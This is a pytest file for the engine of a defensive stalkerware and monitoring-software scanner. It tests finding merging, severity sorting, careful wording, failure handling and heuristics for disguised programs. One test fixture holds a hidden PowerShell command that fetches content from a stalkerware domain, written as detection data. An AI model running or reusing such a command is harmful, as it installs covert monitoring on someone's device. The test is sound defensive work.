"""The engine: sources and checks guarded, findings merged per family, words filled in."""
from __future__ import annotations

import io
import json
import threading

import pytest

from device_checkup.checks.engine import ScanCancelled, run_scan
from device_checkup.checks.records import AutostartEntry, Connection, Process, Service
from device_checkup.checks.snapshot import Snapshot
from device_checkup.checks.sources.base import Machine
from device_checkup.checks.sources.fs import FileSystem
from tests.helpers import FailingSource, HangingSource, ListSource, family_yaml, sigset_from_text

SET = ("schema: 1\nfamilies:\n"
       + family_yaml("spyagent", "stalkerware", r"""
process_names: [sysdiag.exe]
service_names: [sysdiag]
ips: [203.0.113.0/24]
""", name="SpyAgent")
       + family_yaml("teamviewer", "remote-access", "process_names: [teamviewer.exe]", name="TeamViewer"))


@pytest.fixture
def machine(tmp_path):
    return Machine(platform="windows", fs=FileSystem("windows", str(tmp_path)), live=True)


def scan(machine, *sources, **kw):
    return run_scan(signatures=sigset_from_text(SET), machine=machine, sources=list(sources), **kw)


SPY_PROC = Process(pid=42, name="sysdiag.exe", exe=r"C:\Program Files (x86)\sysconfig\sysdiag.exe")
SPY_SVC = Service(name="sysdiag", source="test", executable=r"C:\Program Files (x86)\sysconfig\sysdiag.exe")
SPY_CONN = Connection(kind="tcp", family="ipv4", local_address="10.0.0.2", local_port=5555,
                      remote_address="203.0.113.9", remote_port=443, status="ESTABLISHED", pid=42)


def test_one_family_found_in_three_places_is_one_finding_with_three_pieces_of_evidence(machine):
    result = scan(machine, ListSource("processes", [SPY_PROC]), ListSource("services", [SPY_SVC]),
                  ListSource("connections", [SPY_CONN]))
    (f,) = result.findings
    assert (f.family, f.tier, f.severity) == ("spyagent", "stalkerware", "high")
    assert f.title == "SpyAgent, a program sold to watch another person's computer"
    assert [e.record_kind for e in f.evidence] == ["processes", "services", "connections"]
    assert "3 places" in f.why
    kinds = {(m.kind, m.indicator) for m in f.matches}
    assert kinds == {("process_names", "sysdiag.exe"), ("service_names", "sysdiag"), ("ips", "203.0.113.0/24")}
    assert all(m.sources == ("https://example.org/spyagent",) for m in f.matches)
    assert "let the person who installed it know" in f.careful
    assert result.headline == "We found software that can be used to watch this computer."


def test_findings_are_sorted_most_serious_first(machine):
    tv = Process(pid=7, name="TeamViewer.exe", exe=r"C:\Program Files\TeamViewer\TeamViewer.exe")
    result = scan(machine, ListSource("processes", [tv, SPY_PROC]))
    assert [f.tier for f in result.findings] == ["stalkerware", "remote-access"]


def test_a_clean_scan_says_what_it_did_not_find_and_never_safe(machine):
    ok = Process(pid=1, name="explorer.exe", exe=r"C:\Windows\explorer.exe")
    result = scan(machine, ListSource("processes", [ok], sid="processes", what="programs that are running now"))
    assert result.findings == []
    assert "didn't find any known monitoring software" in result.headline
    assert "safe" not in result.headline.lower()
    assert result.checked == ["programs that are running now"]


def test_a_failing_source_becomes_could_not_check_and_the_scan_goes_on(machine):
    result = scan(machine, FailingSource(), ListSource("processes", [SPY_PROC]))
    assert [f.family for f in result.findings] == ["spyagent"]
    (nc,) = result.not_checked
    assert (nc.source, nc.reason, nc.what) == ("test.failing", "fault", "programs that start by themselves")
    assert "RuntimeError: the disk fell off" in nc.detail
    assert nc.reason_words.startswith("Device Checkup itself ran into a fault there")


def test_a_hanging_source_is_left_behind_after_its_time_limit(machine):
    result = scan(machine, HangingSource(), ListSource("processes", [SPY_PROC]), time_limit=0.3)
    assert [f.family for f in result.findings] == ["spyagent"]
    assert [(n.source, n.reason) for n in result.not_checked] == [("test.hanging", "timeout")]


def test_a_failing_check_becomes_could_not_check(machine):
    from device_checkup.checks.engine import all_checks

    class Broken:
        id, what, needs = "broken", "something broken", ()

        def run(self, ctx):
            raise ValueError("no")

    result = run_scan(signatures=sigset_from_text(SET), machine=machine,
                      sources=[ListSource("processes", [SPY_PROC])], checks=[Broken(), *all_checks()])
    assert [f.family for f in result.findings] == ["spyagent"]
    assert [(n.source, n.reason, n.what) for n in result.not_checked] == [("broken", "fault", "something broken")]


def test_cancel_stops_the_scan(machine):
    cancel = threading.Event()
    seen = []

    def progress(p):
        seen.append(p.id)
        if p.id == "test.hanging":
            cancel.set()

    with pytest.raises(ScanCancelled):
        scan(machine, HangingSource(), ListSource("processes", [SPY_PROC]), progress=progress, cancel=cancel)
    assert seen == ["test.hanging"]


def test_progress_is_reported_in_words_for_every_step(machine):
    steps = []
    scan(machine, ListSource("processes", [SPY_PROC], what="programs that are running now"), progress=steps.append)
    assert steps[0].words == "Looking at programs that are running now…"
    assert steps[-1].phase == "done" and steps[-1].step == steps[-1].total
    assert [s.step for s in steps[:-1]] == list(range(1, len(steps)))


def test_live_only_sources_are_reported_as_not_checked_on_a_disk(tmp_path):
    from device_checkup.checks.sources.system import ProcessesSource
    offline = Machine(platform="linux", fs=FileSystem("linux", str(tmp_path)), live=False)
    result = run_scan(signatures=sigset_from_text(SET), machine=offline, sources=[ProcessesSource()])
    assert [(n.source, n.reason) for n in result.not_checked] == [("processes", "offline")]
    assert "check of a disk" in result.not_checked[0].reason_words


def test_a_snapshot_round_trips_and_matches_the_same(machine):
    first = scan(machine, ListSource("processes", [SPY_PROC]), ListSource("services", [SPY_SVC]))
    buf = io.StringIO()
    first.snapshot.dump(buf)
    again = run_scan(signatures=sigset_from_text(SET), snapshot=Snapshot.load(io.StringIO(buf.getvalue())))
    assert [f.to_json_data() for f in again.findings] == [f.to_json_data() for f in first.findings]
    assert again.snapshot.of("processes") == [SPY_PROC]


def test_heuristics_speak_only_where_no_family_did(machine):
    disguised = AutostartEntry(kind="run-key", name="Windows Host", location=r"HKCU\...\Run",
                               command=r"C:\Users\alex\AppData\Local\Temp\svchost.exe",
                               executable=r"C:\Users\alex\AppData\Local\Temp\svchost.exe")
    result = scan(machine, ListSource("autostart", [disguised]))
    assert {f.heuristic for f in result.findings} == {"system-name-wrong-place", "hidden-or-temporary-start"}
    assert all(f.tier == "suspicious" and f.family is None for f in result.findings)
    worded = next(f for f in result.findings if f.heuristic == "system-name-wrong-place")
    assert 'svchost.exe" is the name of a part of Windows' in worded.what
    assert "not proof" in worded.why


def test_json_document_has_the_documented_keys(machine):
    data = scan(machine, ListSource("processes", [SPY_PROC]), FailingSource()).to_json_data()
    json.dumps(data)
    assert {"findings", "not_checked", "headline", "signatures", "scan", "cannot_see", "checked"} <= set(data)
    f = data["findings"][0]
    assert {"check", "tier", "family", "title", "evidence"} <= set(f)
    assert f["evidence"][0]["matches"][0]["kind"] == "process_names"
    assert data["not_checked"][0]["reason"] == "fault"


def test_permission_advice_fits_the_account_that_ran_the_scan(tmp_path, monkeypatch):
    """As root, "run it as the administrator" would not help: the advice says so instead."""
    import device_checkup.checks.engine as engine
    from device_checkup.checks.snapshot import NotRead
    item = NotRead("autostart", "permission", "EACCES", "programs that start by themselves")
    monkeypatch.setattr(engine, "running_as_administrator", lambda: False)
    assert "sudo" in engine._not_checked(item, "linux", elevated=engine.running_as_administrator()).how
    root = engine._not_checked(item, "linux", elevated=True)
    assert "sudo" not in root.how and "administrator" in root.how and "already ran" in root.how
    win = engine._not_checked(item, "windows", elevated=True)
    assert "Run as administrator" not in win.how


def test_an_offline_program_with_a_system_name_is_found_on_the_disk_not_running():
    from device_checkup.checks.heuristics import program_heuristics
    from device_checkup.checks.records import AutostartEntry, Process
    odd = "C:\\Users\\alex\\AppData\\Roaming\\svchost.exe"
    (f,) = [x for x in program_heuristics("autostart", "autostart", AutostartEntry(kind="run-key", name="x", location="Run", command=odd),
                                          odd, "svchost.exe", "windows", False) if x.heuristic == "system-name-wrong-place"]
    assert "found on the disk in an unusual place" in f.title and "running" not in f.title.lower()
    (p,) = [x for x in program_heuristics("processes", "processes", Process(pid=1, name="svchost.exe", exe=odd),
                                          odd, "svchost.exe", "windows", False) if x.heuristic == "system-name-wrong-place"]
    assert "running from an unusual place" in p.title


def test_a_scan_imports_only_its_own_platforms_sources(tmp_path):
    """A Linux scan never imports the Windows or macOS readers (issue 15: one platform's code)."""
    import json
    import subprocess
    import sys
    (tmp_path / "etc").mkdir()
    code = ("import json, sys; from device_checkup.app.cli import main; "
            f"main(['scan', '--json', '--root', {str(tmp_path)!r}, '--platform', 'linux']); "
            "print(json.dumps(sorted(m for m in sys.modules if m.startswith('device_checkup.checks.sources'))), "
            "file=sys.stderr)")
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=300)
    loaded = json.loads(proc.stderr.strip().splitlines()[-1])
    assert "device_checkup.checks.sources.linux" in loaded
    assert not {"device_checkup.checks.sources.windows", "device_checkup.checks.sources.macos",
                "device_checkup.checks.sources.registry"} & set(loaded), loaded


def test_a_phone_apps_family_found_on_a_laptop_is_said_as_a_link_to_the_app_not_the_app(machine):
    """Echap's TheTruthSpy is known by its phone app's ids and its servers; on a laptop only a link
    to its servers can show (here a real shipped indicator, its domain, in a start-up command). It
    must not be called a program watching this computer. SpyAgent, a laptop product, keeps its words."""
    from device_checkup.checks.base import phone_product
    from device_checkup.signatures.loader import shared_set
    sigset = shared_set()
    families = {f.id: f for f in sigset.families}
    assert phone_product(families["echap.thetruthspy"]) and not phone_product(families["spyagent"])
    # A family Echap lists with no phone app id (SentryPC is sold for computers) keeps the tier's words.
    assert not phone_product(families["echap.sentrypc"])
    entry = AutostartEntry(kind="run-key", name="updater", location=r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run",
                           command="powershell.exe -w hidden -c iwr https://thetruthspy.com/u")
    result = run_scan(signatures=sigset, machine=machine,
                      sources=[ListSource("autostart", [entry]), ListSource("processes", [SPY_PROC])])
    by_family = {f.family: f for f in result.findings}
    spy = by_family["echap.thetruthspy"]
    assert spy.tier == "stalkerware"
    assert spy.title == "TheTruthSpy: a link to an app sold to watch another person's phone"
    assert "runs on phones" in spy.why and "this computer" not in spy.why
    assert "Android phone or an iPhone backup" in spy.do
    assert spy.what.startswith("A phone app sold to secretly watch another person")
    assert by_family["spyagent"].title == "SpyAgent, a program sold to watch another person's computer"


def test_a_snapshot_matched_later_gets_the_ordinary_advice_whoever_matches_it(monkeypatch):
    """Who made a saved snapshot is not known: an administrator matching it later must not be told
    that an administrator already ran the scan."""
    import device_checkup.checks.engine as engine
    from device_checkup.checks.snapshot import NotRead
    monkeypatch.setattr(engine, "running_as_administrator", lambda: True)
    snap = Snapshot(platform="linux")
    snap.not_read.append(NotRead("autostart", "permission", "EACCES", "programs that start by themselves"))
    result = run_scan(signatures=sigset_from_text(SET), snapshot=snap, checks=[])
    (item,) = result.not_checked
    assert "sudo" in item.how and "already ran" not in item.how


def test_lolrmms_letter_or_digit_glob_matches_instead_of_stopping_the_scan(machine):
    """LOLRMM's controlio.yaml names Controlio's launcher 'wec_launcher_[a-Z0-9]*_.exe'. As a
    character range 'a-Z' runs backwards: the shipped set held it, and the first running program
    whose name began with 'w' made the index raise re.error. The importer reads it as letters
    and digits; the launcher is found (reported as the curated Controlio family)."""
    from device_checkup.signatures.loader import shared_set
    sigset = shared_set()
    assert not sigset.problems, [str(p) for p in sigset.problems]
    launcher = Process(pid=9, name="wec_launcher_Ab12_.exe", exe=r"C:\ProgramData\wec\wec_launcher_Ab12_.exe")
    other = Process(pid=10, name="winlogon.exe", exe=r"C:\Windows\System32\winlogon.exe")
    result = run_scan(signatures=sigset, machine=machine, sources=[ListSource("processes", [other, launcher])])
    assert [(f.family, f.tier) for f in result.findings] == [("controlio", "monitoring")]
